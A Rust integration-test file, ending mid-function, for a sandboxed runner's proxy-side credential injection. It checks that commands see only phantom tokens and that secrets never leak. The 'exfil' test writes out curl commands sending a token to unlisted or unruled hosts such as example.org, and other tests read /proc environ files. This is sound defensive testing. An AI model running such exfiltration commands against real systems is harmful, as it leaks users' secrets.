//! Credentials injected at the proxy (`--credential`, `--inject`,
//! `--credential-env`, `--upstream-ca`): real clients (curl, Python's
//! urllib and requests, git, node, pip) against a local HTTPS upstream with
//! a CA of its own (`support/tls_upstream.py`), each run confined to
//! workspace-write; the upstream sees the secret, and the command, its
//! output, its files, the result and `dsh-exec`'s own /proc entries never
//! do.

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use serde_json::Value;

use crate::support::{dsh, poll_until};

/// A secret unique to one test.
pub(crate) fn secret(tag: &str) -> String {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos();
    format!("sekrit-{tag}-{}-{nanos}", std::process::id())
}

/// A CA and a leaf for localhost and 127.0.0.1 signed by it, as PEM files
/// in `dir`: (ca.pem, leaf.pem, key.pem).
fn test_ca(dir: &Path) -> (PathBuf, PathBuf, PathBuf) {
    let ca_key = rcgen::KeyPair::generate().unwrap();
    let mut ca = rcgen::CertificateParams::default();
    ca.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    ca.distinguished_name
        .push(rcgen::DnType::CommonName, "dsh-exec test upstream CA");
    ca.key_usages = vec![
        rcgen::KeyUsagePurpose::KeyCertSign,
        rcgen::KeyUsagePurpose::DigitalSignature,
    ];
    let ca_cert = ca.self_signed(&ca_key).unwrap();
    let issuer = rcgen::Issuer::new(ca, ca_key);
    let key = rcgen::KeyPair::generate().unwrap();
    let mut leaf =
        rcgen::CertificateParams::new(vec!["localhost".into(), "127.0.0.1".into()]).unwrap();
    leaf.distinguished_name
        .push(rcgen::DnType::CommonName, "localhost");
    let leaf_cert = leaf.signed_by(&key, &issuer).unwrap();
    let paths = (
        dir.join("ca.pem"),
        dir.join("leaf.pem"),
        dir.join("key.pem"),
    );
    std::fs::write(&paths.0, ca_cert.pem()).unwrap();
    std::fs::write(&paths.1, leaf_cert.pem()).unwrap();
    std::fs::write(&paths.2, key.serialize_pem()).unwrap();
    (paths.0, paths.1, paths.2)
}

/// The upstream server of one test; killed and waited for when dropped.
pub(crate) struct Upstream {
    child: Child,
    pub(crate) port: u16,
    pub(crate) ca: PathBuf,
    log: PathBuf,
    _dir: tempfile::TempDir,
}

impl Upstream {
    /// Starts the server; `expected` is the Authorization value it
    /// accepts, `root` the directory of its git and file trees.
    pub(crate) fn start(expected: &str, root: Option<&Path>) -> Upstream {
        Upstream::start_as(expected, root, false)
    }

    /// As [`Upstream::start`]; `plain`: plain HTTP, no TLS.
    fn start_as(expected: &str, root: Option<&Path>, plain: bool) -> Upstream {
        let dir = tempfile::tempdir().unwrap();
        let (ca, leaf, key) = test_ca(dir.path());
        let (portfile, log, exp) = (
            dir.path().join("port"),
            dir.path().join("log"),
            dir.path().join("expected"),
        );
        std::fs::write(&exp, expected).unwrap();
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/it/support/tls_upstream.py");
        let mut cmd = Command::new("python3");
        cmd.arg(script)
            .args([&leaf, &key, &portfile, &log, &exp])
            .env("TLS_UPSTREAM_PLAIN", if plain { "1" } else { "0" })
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        if let Some(r) = root {
            cmd.arg(r);
        }
        let child = cmd.spawn().unwrap();
        let port = poll_until(Duration::from_secs(10), || {
            std::fs::read_to_string(&portfile).ok()?.parse::<u16>().ok()
        })
        .expect("the upstream did not start");
        Upstream {
            child,
            port,
            ca,
            log,
            _dir: dir,
        }
    }

    /// The requests it got, in order.
    pub(crate) fn requests(&self) -> Vec<Value> {
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }

    /// `localhost:PORT`.
    pub(crate) fn host(&self) -> String {
        format!("localhost:{}", self.port)
    }
}

impl Drop for Upstream {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Runs `script` confined to workspace-write in `work`, with `TOKEN`
/// holding `secret` in dsh-exec's environment and the flags `flags`;
/// returns the JSON result and its text.
fn run(work: &Path, secret: &str, flags: &[String], script: &str) -> (Value, String) {
    let out = dsh()
        .env("TOKEN", secret)
        .args(["--json", "-s", "workspace-write", "-C"])
        .arg(work)
        .args(flags)
        .args(["--", script])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let v: Value = serde_json::from_str(&text)
        .unwrap_or_else(|e| panic!("{e}: {text} {}", String::from_utf8_lossy(&out.stderr)));
    (v, text)
}

/// The usual flags: the host on the allow-list, TOKEN as credential K,
/// the rule `rule`, the phantom in K_TOKEN, and the upstream's CA.
fn flags(up: &Upstream, rule: &str) -> Vec<String> {
    vec![
        format!("--network=allow={}", up.host()),
        "--credential=K=env:TOKEN".into(),
        format!("--inject={rule}"),
        "--credential-env=K=K_TOKEN".into(),
        format!("--upstream-ca={}", up.ca.display()),
    ]
}

/// Asserts `secret` is nowhere in `text` (the result), nor in any file
/// under `dir` (the workspace, where the command's files and environment
/// dump are), nor in a spill file the result names.
fn assert_absent(secret: &str, text: &str, dir: &Path, v: &Value) {
    assert!(
        !text.contains(secret),
        "the secret is in the result: {text}"
    );
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            let ft = e.file_type().unwrap();
            if ft.is_dir() {
                stack.push(p);
            } else if ft.is_file() {
                let bytes = std::fs::read(&p).unwrap();
                assert!(
                    !bytes.windows(secret.len()).any(|w| w == secret.as_bytes()),
                    "the secret is in {}",
                    p.display()
                );
            }
        }
    }
    for s in ["stdout", "stderr"] {
        if let Some(p) = v[s]["spill_path"].as_str() {
            let bytes = std::fs::read(p).unwrap_or_default();
            assert!(!bytes.windows(secret.len()).any(|w| w == secret.as_bytes()));
        }
    }
}

fn has(cmd: &str) -> bool {
    Command::new("sh")
        .args(["-c", &format!("command -v {cmd}")])
        .stdout(Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

#[test]
fn curl_gets_the_credential_where_the_rule_says_and_only_ever_sees_a_phantom() {
    let s = secret("curl");
    let up = Upstream::start(&format!("Bearer {s}"), None);
    let work = tempfile::tempdir().unwrap();
    let (v, text) = run(
        work.path(),
        &s,
        &flags(&up, &format!("{}/api=bearer:K", up.host())),
        &format!(
            "env > env.txt; echo \"phantom=$K_TOKEN\"; \
             curl -sS -D headers.txt -H \"Authorization: Bearer $K_TOKEN\" https://{0}/api/one; echo; \
             curl -sS https://{0}/api/two?x=1; echo; \
             curl -sS -o /dev/null https://{0}/other; \
             grep -i '^x-echo' headers.txt",
            up.host()
        ),
    );
    let out = v["stdout"]["text"].as_str().unwrap();
    assert_eq!(v["exit_code"], 0, "{text}");
    assert!(out.contains("phantom=dsh-exec-phantom-k-"), "{out}");
    assert!(
        out.contains(r#"{"authorized": true, "path": "/api/one"}"#),
        "{out}"
    );
    assert!(
        out.contains(r#"{"authorized": true, "path": "/api/two"}"#),
        "{out}"
    );
    // The upstream echoed the secret in a header: redacted.
    assert!(out.contains("X-Echo: [redacted by dsh-exec]"), "{out}");
    let reqs = up.requests();
    assert_eq!(reqs.len(), 3);
    for r in &reqs[..2] {
        assert_eq!(r["headers"]["Authorization"], format!("Bearer {s}"));
    }
    // A path no rule covers: on without a credential, and counted.
    assert_eq!(reqs[2]["headers"].get("Authorization"), None);
    assert_eq!(
        v["sandbox"]["credentials_used"],
        serde_json::json!({"K": {"localhost": 2}})
    );
    assert_eq!(
        v["sandbox"]["credentials_missed"],
        serde_json::json!({"localhost": 1})
    );
    assert_absent(&s, &text, work.path(), &v);
    let env = std::fs::read_to_string(work.path().join("env.txt")).unwrap();
    assert!(!env.lines().any(|l| l.starts_with("TOKEN=")), "{env}");
    assert!(env.contains("SSL_CERT_FILE=") && env.contains("NODE_EXTRA_CA_CERTS="));
}

#[test]
fn a_phantom_sent_anywhere_else_is_refused_and_reported() {
    let s = secret("exfil");
    let up = Upstream::start(&format!("Bearer {s}"), None);
    let other = Upstream::start("nothing", None);
    let work = tempfile::tempdir().unwrap();
    let mut f = flags(&up, &format!("{}/api/ok=bearer:K", up.host()));
    f[0] = format!(
        "--network=allow={},{}",
        up.host(),
        other.host().replace("localhost", "127.0.0.1")
    );
    let (v, text) = run(
        work.path(),
        &s,
        &f,
        &format!(
            // Another listed host, in a header and in the query; the right
            // host on a path no rule covers; an unlisted host by plain http.
            "curl -sS --cacert {ca} -x \"$HTTPS_PROXY\" -H \"X-Key: $K_TOKEN\" https://127.0.0.1:{op}/api/a; echo \" rc=$?\"; \
             curl -sS -H \"Authorization: Bearer $K_TOKEN\" https://{h}/api/other; echo \" rc=$?\"; \
             curl -sS \"http://example.org/?k=$K_TOKEN\"; echo \" rc=$?\"",
            ca = other.ca.display(),
            op = other.port,
            h = up.host()
        ),
    );
    assert_eq!(v["exit_code"], 0, "{text}");
    // The tunnel to a listed host without a rule stays a tunnel (TLS end
    // to end, unseen): what arrives there is the phantom, never the secret.
    let seen = other.requests();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert!(
        seen[0]["headers"]["X-Key"]
            .as_str()
            .unwrap()
            .starts_with("dsh-exec-phantom-k-")
    );
    assert!(up.requests().is_empty(), "{:?}", up.requests());
    let reasons: Vec<(String, String)> = v["sandbox"]["network_denials"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            (
                d["host"].as_str().unwrap().to_string(),
                d["reason"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert!(
        reasons.contains(&("localhost".into(), "no injection rule: K".into())),
        "{reasons:?}"
    );
    assert!(
        reasons.contains(&("example.org".into(), "phantom to unlisted host: K".into())),
        "{reasons:?}"
    );
    assert_eq!(v["sandbox"]["denied"], true);
    assert!(v["sandbox"].get("credentials_used").is_none(), "{text}");
    assert_absent(&s, &text, work.path(), &v);
}

#[test]
fn a_client_that_pins_the_real_ca_fails_and_the_refusal_is_told() {
    let s = secret("pin");
    let up = Upstream::start(&format!("Bearer {s}"), None);
    let work = tempfile::tempdir().unwrap();
    let (v, text) = run(
        work.path(),
        &s,
        &flags(&up, &format!("{}=bearer:K", up.host())),
        &format!(
            "curl -sS --cacert {} https://{}/api/x; echo \" rc=$?\"",
            up.ca.display(),
            up.host()
        ),
    );
    let out = v["stdout"]["text"].as_str().unwrap();
    assert!(out.contains(" rc=60"), "{text}");
    assert!(up.requests().is_empty());
    let reason = v["sandbox"]["network_denials"][0]["reason"]
        .as_str()
        .unwrap();
    assert!(reason.starts_with("tls pinned: "), "{reason}");
    assert_absent(&s, &text, work.path(), &v);
}

#[test]
fn python_urllib_and_requests_get_it_through_the_ca_variables() {
    let s = secret("py");
    let up = Upstream::start(&format!("Basic {}", b64(&format!("me:{s}"))), None);
    let work = tempfile::tempdir().unwrap();
    let script = format!(
        "python3 -c '\nimport urllib.request, json\nr = urllib.request.urlopen(\"https://{h}/api/urllib\")\nprint(r.read().decode())\n'\n\
         python3 -c '\ntry:\n    import requests\nexcept ImportError:\n    print(\"no requests\"); raise SystemExit\nr = requests.get(\"https://{h}/api/requests\")\nprint(r.text, r.headers[\"X-Echo\"])\n'",
        h = up.host()
    );
    let (v, text) = run(
        work.path(),
        &s,
        &flags(&up, &format!("{}=basic:me:K", up.host())),
        &script,
    );
    let out = v["stdout"]["text"].as_str().unwrap();
    assert_eq!(v["exit_code"], 0, "{text}");
    assert!(
        out.contains(r#"{"authorized": true, "path": "/api/urllib"}"#),
        "{out}"
    );
    assert!(
        out.contains(r#"{"authorized": true, "path": "/api/requests"} [redacted by dsh-exec]"#)
            || out.contains("no requests"),
        "{out}"
    );
    assert_absent(&s, &text, work.path(), &v);
}

fn b64(s: &str) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for c in s.as_bytes().chunks(3) {
        let b = [c[0], *c.get(1).unwrap_or(&0), *c.get(2).unwrap_or(&0)];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= c.len() {
                out.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn git(dir: &Path, args: &[&str]) {
    let ok = Command::new("git")
        .current_dir(dir)
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "-c",
            "init.defaultBranch=main",
        ])
        .args(args)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .unwrap()
        .success();
    assert!(ok, "git {args:?}");
}

#[test]
fn git_clones_fetches_and_pushes_over_https_with_basic_credentials() {
    let s = secret("git");
    let root = tempfile::tempdir().unwrap();
    let bare = root.path().join("git/repo.git");
    std::fs::create_dir_all(&bare).unwrap();
    git(&bare, &["init", "-q", "--bare"]);
    let seed = root.path().join("seed");
    std::fs::create_dir(&seed).unwrap();
    git(&seed, &["init", "-q"]);
    std::fs::write(seed.join("a.txt"), "one\n").unwrap();
    git(&seed, &["add", "a.txt"]);
    git(&seed, &["commit", "-qm", "one"]);
    git(&seed, &["push", "-q", bare.to_str().unwrap(), "main"]);
    let up = Upstream::start(
        &format!("Basic {}", b64(&format!("git:{s}"))),
        Some(root.path()),
    );
    let work = tempfile::tempdir().unwrap();
    let url = format!("https://{}/git/repo.git", up.host());
    let (v, text) = run(
        work.path(),
        &s,
        &flags(&up, &format!("{}/git=basic:git:K", up.host())),
        &format!(
            "set -e; git clone -q {url} c; cd c; git fetch -q origin; cat a.txt; \
             echo two > b.txt; git add b.txt; git -c user.name=t -c user.email=t@t commit -qm two; \
             git push -q origin HEAD:main; git ls-remote {url} | wc -l"
        ),
    );
    assert_eq!(v["exit_code"], 0, "{text}");
    assert_eq!(v["stdout"]["text"], "one\n2\n", "{text}");
    // The push landed in the real repository.
    let log = Command::new("git")
        .args([
            "--git-dir",
            bare.to_str().unwrap(),
            "log",
            "--format=%s",
            "main",
        ])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&log.stdout), "two\none\n");
    let used = v["sandbox"]["credentials_used"]["K"]["localhost"]
        .as_u64()
        .unwrap();
    assert!(used >= 5, "{used}");
    assert_absent(&s, &text, work.path(), &v);
}

#[test]
fn node_trusts_the_run_s_ca_through_node_extra_ca_certs() {
    if !has("node") {
        eprintln!("skipped: node is not installed");
        return;
    }
    let s = secret("node");
    let up = Upstream::start(&format!("Bearer {s}"), None);
    let work = tempfile::tempdir().unwrap();
    // Node 20's fetch ignores HTTPS_PROXY: the tunnel is asked for by hand,
    // as proxy agents do, and TLS runs over it with Node's own roots plus
    // NODE_EXTRA_CA_CERTS.
    let js = format!(
        "const http=require('http'),tls=require('tls');\
         const p=new URL(process.env.HTTPS_PROXY);\
         const auth='Basic '+Buffer.from(p.username+':'+p.password).toString('base64');\
         const r=http.request({{host:p.hostname,port:p.port,method:'CONNECT',path:'localhost:{port}',headers:{{'Proxy-Authorization':auth}}}});\
         r.on('connect',(res,sock)=>{{const t=tls.connect({{socket:sock,servername:'localhost'}},()=>{{\
           t.write('GET /api/node HTTP/1.1\\r\\nHost: localhost:{port}\\r\\nAuthorization: Bearer '+process.env.K_TOKEN+'\\r\\nConnection: close\\r\\n\\r\\n');}});\
           let d='';t.on('data',c=>d+=c);t.on('end',()=>console.log(d.split('\\r\\n\\r\\n')[1]));\
           t.on('error',e=>{{console.log('ERR '+e.message);process.exit(1)}});}});\
         r.end();",
        port = up.port
    );
    std::fs::write(work.path().join("t.js"), js).unwrap();
    let (v, text) = run(
        work.path(),
        &s,
        &flags(&up, &format!("{}=bearer:K", up.host())),
        "node t.js",
    );
    assert_eq!(v["exit_code"], 0, "{text}");
    assert_eq!(
        v["stdout"]["text"], "{\"authorized\": true, \"path\": \"/api/node\"}\n",
        "{text}"
    );
    assert_absent(&s, &text, work.path(), &v);
}

#[test]
fn pip_downloads_from_a_private_index_with_the_credential() {
    if !has("pip") {
        eprintln!("skipped: pip is not installed");
        return;
    }
    let s = secret("pip");
    let root = tempfile::tempdir().unwrap();
    let files = root.path().join("files");
    std::fs::create_dir_all(root.path().join("simple/tinypkg")).unwrap();
    std::fs::create_dir_all(&files).unwrap();
    let wheel = "tinypkg-1.0-py3-none-any.whl";
    let made = Command::new("python3")
        .args([
            "-c",
            "import sys, zipfile\n\
             z = zipfile.ZipFile(sys.argv[1], 'w')\n\
             z.writestr('tinypkg/__init__.py', 'x = 1\\n')\n\
             z.writestr('tinypkg-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: tinypkg\\nVersion: 1.0\\n')\n\
             z.writestr('tinypkg-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')\n\
             z.writestr('tinypkg-1.0.dist-info/RECORD', '')\n\
             z.close()",
        ])
        .arg(files.join(wheel))
        .status()
        .unwrap()
        .success();
    assert!(made);
    std::fs::write(
        root.path().join("simple/tinypkg/index.html"),
        format!("<html><body><a href=\"/files/{wheel}\">{wheel}</a></body></html>\n"),
    )
    .unwrap();
    let up = Upstream::start(&format!("Bearer {s}"), Some(root.path()));
    let work = tempfile::tempdir().unwrap();
    let (v, text) = run(
        work.path(),
        &s,
        &flags(&up, &format!("{}=bearer:K", up.host())),
        &format!(
            "pip download -q --no-cache-dir --disable-pip-version-check --no-deps \
             --index-url https://{}/simple/ -d dl tinypkg && ls dl",
            up.host()
        ),
    );
    assert_eq!(v["exit_code"], 0, "{text}");
    assert_eq!(v["stdout"]["text"], format!("{wheel}\n"), "{text}");
    assert_absent(&s, &text, work.path(), &v);
}

#[test]
fn dsh_exec_s_own_proc_entries_and_a_job_s_files_never_hold_the_secret() {
    let s = secret("proc");
    let up = Upstream::start(&format!("Bearer {s}"), None);
    let work = tempfile::tempdir().unwrap();
    let mut child = dsh()
        .env("TOKEN", &s)
        .args(["-s", "workspace-write", "-C"])
        .arg(work.path())
        .args(flags(&up, &format!("{}=bearer:K", up.host())))
        .args(["--", "touch started; sleep 30"])
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let started = poll_until(Duration::from_secs(10), || {
        work.path().join("started").exists().then_some(())
    });
    let pid = child.id();
    let environ = std::fs::read(format!("/proc/{pid}/environ")).unwrap();
    let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap();
    let _ = nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(pid as i32),
        nix::sys::signal::Signal::SIGTERM,
    );
    let _ = child.wait();
    assert!(started.is_some());
    for (what, bytes) in [("environ", &environ), ("cmdline", &cmdline)] {
        assert!(
            !bytes.windows(s.len()).any(|w| w == s.as_bytes()),
            "the secret is in /proc/PID/{what}"
        );
    }
    // A background job: the handoff carries the value, its files do not.
    let state = tempfile::tempdir().unwrap();
    let id = dsh()
        .env("TOKEN", &s)
        .env("XDG_STATE_HOME", state.path())
        .args(["--background", "-s", "workspace-write", "-C"])
        .arg(work.path())
        .args(flags(&up, &format!("{}=bearer:K", up.host())))
        .args([
            "--",
            &format!(
                "curl -sS -o /dev/null -w '%{{http_code}}' https://{}/api/job",
                up.host()
            ),
        ])
        .output()
        .unwrap();
    let id = String::from_utf8_lossy(&id.stdout).trim().to_string();
    let waited = dsh()
        .env("XDG_STATE_HOME", state.path())
        .args(["job", "wait", &id, "--json"])
        .output()
        .unwrap();
    let v: Value = serde_json::from_slice(&waited.stdout).unwrap();
    assert_eq!(v["stdout"]["text"], "200", "{v}");
    assert_eq!(v["sandbox"]["credentials_used"]["K"]["localhost"], 1);
    assert_eq!(
        up.requests().last().unwrap()["headers"]["Authorization"],
        format!("Bearer {s}")
    );
    assert_absent(&s, &v.to_string(), state.path(), &v);
}

#[test]
fn bad_credential_input_is_one_line_and_exit_125_before_anything_runs() {
    let work = tempfile::tempdir().unwrap();
    let marker = work.path().join("ran");
    let empty = work.path().join("empty");
    std::fs::write(&empty, "\n").unwrap();
    let script = format!("touch {}", marker.display());
    let allow = "--network=allow=api.example.org".to_string();
    for (args, message) in [
        (
            vec![
                allow.clone(),
                "--credential=K=env:NOPE".into(),
                "--inject=api.example.org=bearer:K".into(),
            ],
            "dsh-exec: error: --credential K=env:NOPE: the variable NOPE is not set (USAGE)\n",
        ),
        (
            vec![
                allow.clone(),
                format!("--credential=K=file:{}", empty.display()),
                "--inject=api.example.org=bearer:K".into(),
            ],
            &*format!(
                "dsh-exec: error: --credential K=file:{}: the value is empty (USAGE)\n",
                empty.display()
            )
            .leak(),
        ),
        (
            vec![
                allow.clone(),
                "--credential=K=fd:9".into(),
                "--inject=api.example.org=bearer:K".into(),
            ],
            "dsh-exec: error: --credential K=fd:9: descriptor 9 is not open (USAGE)\n",
        ),
        (
            vec![
                allow.clone(),
                "--credential=K=env:TOKEN".into(),
                "--inject=other.example.org=bearer:K".into(),
            ],
            "dsh-exec: error: --inject other.example.org:443=bearer:K: other.example.org:443 is not on the --network allow= list (USAGE)\n",
        ),
        (
            vec![
                "--credential=K=env:TOKEN".into(),
                "--inject=api.example.org=bearer:K".into(),
            ],
            "dsh-exec: error: --credential, --inject, --credential-env and --upstream-ca need --network allow=HOSTS: a credential is injected by the allow-list proxy, and over open egress it would protect nothing (USAGE)\n",
        ),
        (
            vec![
                allow.clone(),
                "--credential=K=env:TOKEN".into(),
                "--inject=api.example.org=token:K".into(),
            ],
            "dsh-exec: error: invalid value 'api.example.org=token:K' for '--inject <RULE>': invalid --inject 'api.example.org=token:K': the scheme must be bearer:NAME, basic:USER:NAME, header:FIELD:NAME or query:PARAM:NAME (see --help) (USAGE)\n",
        ),
        (
            vec![allow.clone(), "--credential=K=env:TOKEN".into()],
            "dsh-exec: error: --credential K has no --inject rule: say where it goes (HOST=bearer:K) (USAGE)\n",
        ),
        (
            vec![
                allow.clone(),
                "--credential=K=env:TOKEN".into(),
                "--inject=api.example.org=bearer:K".into(),
                "-e".into(),
                "TOKEN".into(),
            ],
            "dsh-exec: error: --env TOKEN would give the command the value of --credential K=env:TOKEN: the command gets a phantom (--credential-env K=VAR) (USAGE)\n",
        ),
    ] {
        let out = dsh()
            .env("TOKEN", "v")
            .args(&args)
            .args(["--", &script])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(125), "{args:?}");
        assert_eq!(String::from_utf8_lossy(&out.stderr), message, "{args:?}");
        assert!(!marker.exists(), "{args:?}");
    }
}

#[test]
fn the_configuration_file_declares_them_and_a_flag_list_replaces_its_list() {
    let s = secret("config");
    let up = Upstream::start(&format!("Bearer {s}"), None);
    let work = tempfile::tempdir().unwrap();
    let config = work.path().join("config.toml");
    std::fs::write(
        &config,
        format!(
            "[defaults]\nnetwork_allow = [\"{h}\"]\ncredentials = [\"K=env:TOKEN\"]\n\
             inject = [\"{h}/nothing=bearer:K\"]\ncredential_env = [\"K=K_TOKEN\"]\n\
             upstream_ca = [\"{ca}\"]\n",
            h = up.host(),
            ca = up.ca.display()
        ),
    )
    .unwrap();
    let run_with = |extra: &[&str]| -> Value {
        let out = dsh()
            .env("TOKEN", &s)
            .env("DSH_EXEC_CONFIG", &config)
            .args(["--json", "-s", "workspace-write", "-C"])
            .arg(work.path())
            .args(extra)
            .args([
                "--",
                &format!(
                    "curl -sS https://{}/api/c -H \"Authorization: Bearer $K_TOKEN\"",
                    up.host()
                ),
            ])
            .output()
            .unwrap();
        serde_json::from_slice(&out.stdout).unwrap()
    };
    // The file's rule covers /nothing: the phantom to /api is refused.
    let v = run_with(&[]);
    assert_eq!(
        v["sandbox"]["network_denials"][0]["reason"], "no injection rule: K",
        "{v}"
    );
    // The flags' declarations replace the file's as a whole.
    let v = run_with(&[
        "--credential=K=env:TOKEN",
        &format!("--inject={}/api=bearer:K", up.host()),
        "--credential-env=K=K_TOKEN",
        &format!("--upstream-ca={}", up.ca.display()),
    ]);
    assert_eq!(
        v["stdout"]["text"], "{\"authorized\": true, \"path\": \"/api/c\"}",
        "{v}"
    );
    assert!(!v.to_string().contains(&s));
}

#[test]
fn an_upstream_echoing_the_secret_anywhere_in_a_head_gets_it_redacted() {
    let s = secret("echo");
    let up = Upstream::start("x", None);
    let work = tempfile::tempdir().unwrap();
    let (v, text) = run(
        work.path(),
        &s,
        &flags(&up, &format!("{}=bearer:K", up.host())),
        &format!("curl -sS -i --raw https://{}/echo", up.host()),
    );
    let out = v["stdout"]["text"].as_str().unwrap();
    assert_eq!(v["exit_code"], 0, "{text}");
    assert_eq!(
        up.requests()[0]["headers"]["Authorization"],
        format!("Bearer {s}")
    );
    for shown in [
        "HTTP/1.1 103 [redacted by dsh-exec]",
        "X-Early: [redacted by dsh-exec]",
        "HTTP/1.1 200 [redacted by dsh-exec]",
        "X-A: [redacted by dsh-exec]",
        "X-Trailer: [redacted by dsh-exec]",
        "\nhello\r\n",
    ] {
        assert!(out.contains(shown), "{shown:?} not in {out:?}");
    }
    assert_absent(&s, &text, work.path(), &v);
}

#[test]
fn plain_http_and_trace_never_carry_the_credential() {
    let s = secret("plain");
    let plain = Upstream::start_as("x", None, true);
    let tls = Upstream::start("x", None);
    let work = tempfile::tempdir().unwrap();
    let mut f = flags(&tls, &format!("{}=bearer:K", tls.host()));
    f[0] = format!("--network=allow={},{}", tls.host(), plain.host());
    f.push(format!("--inject={}=bearer:K", plain.host()));
    let (v, text) = run(
        work.path(),
        &s,
        &f,
        &format!(
            // Plain http:// to a host with a rule: the phantom is refused,
            // and without one the request goes on bare.
            "curl -sS -x \"$HTTP_PROXY\" -H \"Authorization: Bearer $K_TOKEN\" http://{p}/api/a; echo; \
             curl -sS -x \"$HTTP_PROXY\" http://{p}/api/b; echo; \
             curl -sS -X TRACE https://{t}/api/c; echo",
            p = plain.host(),
            t = tls.host()
        ),
    );
    let out = v["stdout"]["text"].as_str().unwrap();
    assert_eq!(v["exit_code"], 0, "{text}");
    assert!(
        out.contains(&format!(
            "dsh-exec: {} refused: no injection rule: K",
            plain.host()
        )),
        "{out}"
    );
    assert!(
        out.contains(r#"{"authorized": false, "path": "/api/b"}"#),
        "{out}"
    );
    let seen = plain.requests();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0]["headers"].get("Authorization"), None);
    let traced = tls.requests();
    assert_eq!(traced[0]["method"], "TRACE");
    assert_eq!(traced[0]["headers"].get("Authorization"), None);
    assert!(v["sandbox"].get("credentials_used").is_none(), "{text}");
    // The bare plain request and the TRACE went on without one.
    assert_eq!(
        v["sandbox"]["credentials_missed"],
        serde_json::json!({"localhost": 2}),
        "{text}"
    );
    assert_absent(&s, &text, work.path(), &v);
}

#[test]
fn a_file_source_is_unreadable_to_the_command_and_needs_a_confining_mode() {
    let s = secret("file");
    let up = Upstream::start(&format!("Bearer {s}"), None);
    let work = tempfile::tempdir().unwrap();
    // In the workspace itself, where the command may write.
    let file = work.path().join("token");
    std::fs::write(&file, format!("{s}\n")).unwrap();
    let mut f = flags(&up, &format!("{}=bearer:K", up.host()));
    f[1] = format!("--credential=K=file:{}", file.display());
    let (v, text) = run(
        work.path(),
        &s,
        &f,
        &format!(
            "cat token; cp token copy 2>/dev/null; curl -sS https://{}/api/f",
            up.host()
        ),
    );
    assert!(
        v["stdout"]["text"]
            .as_str()
            .unwrap()
            .contains(r#"{"authorized": true, "path": "/api/f"}"#),
        "{text}"
    );
    assert!(!text.contains(&s), "{text}");
    let copy = std::fs::read(work.path().join("copy")).unwrap_or_default();
    assert!(!String::from_utf8_lossy(&copy).contains(&s));
    // Full access reads what dsh-exec reads: refused.
    let out = dsh()
        .args(["--network", &format!("allow={}", up.host())])
        .arg(format!("--credential=K=file:{}", file.display()))
        .arg(format!("--inject={}=bearer:K", up.host()))
        .args(["--", "cat token"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125));
    assert!(
        String::from_utf8_lossy(&out.stderr)
            .contains("a file: source needs --sandbox read-only or workspace-write"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn a_process_holding_credentials_is_not_dumpable() {
    let Some(u) = crate::support::Unprivileged::new() else {
        return;
    };
    // As another user the owner of /proc/PID/environ tells: a dumpable
    // process's files are its own user's; a non-dumpable one's (no core
    // file, memory readable only with CAP_SYS_PTRACE) are root's (proc(5)).
    // The command looks at its parent, dsh-exec.
    let out = u.run_with(
        &[("TOKEN", std::ffi::OsStr::new("v"))],
        &[
            "--network=allow=api.example.org",
            "--credential=K=env:TOKEN",
            "--inject=api.example.org=bearer:K",
            "--",
            "stat -c %u /proc/$PPID/environ /proc/$$/environ",
        ],
    );
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "0
65534
[exit code: 0]
",
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn an_upstream_tls_failure_is_told_in_the_result() {
    let s = secret("upfail");
    let up = Upstream::start(&format!("Bearer {s}"), None);
    let work = tempfile::tempdir().unwrap();
    // No --upstream-ca: the proxy cannot verify the test upstream.
    let f: Vec<String> = flags(&up, &format!("{}=bearer:K", up.host()))
        .into_iter()
        .filter(|f| !f.starts_with("--upstream-ca"))
        .collect();
    let (v, text) = run(
        work.path(),
        &s,
        &f,
        &format!("curl -sS https://{}/api/x", up.host()),
    );
    let reason = v["sandbox"]["network_denials"][0]["reason"]
        .as_str()
        .unwrap_or_default();
    assert!(
        reason.starts_with("upstream: the upstream's TLS failed (invalid peer certificate: UnknownIssuer); a private CA is trusted with --upstream-ca"),
        "{text}"
    );
    assert!(up.requests().is_empty());
}

#[test]
fn the_command_s_own_ca_variables_keep_what_they_trusted_and_an_explicit_one_wins() {
    let s = secret("cavars");
    let up = Upstream::start(&format!("Bearer {s}"), None);
    let work = tempfile::tempdir().unwrap();
    let out = dsh()
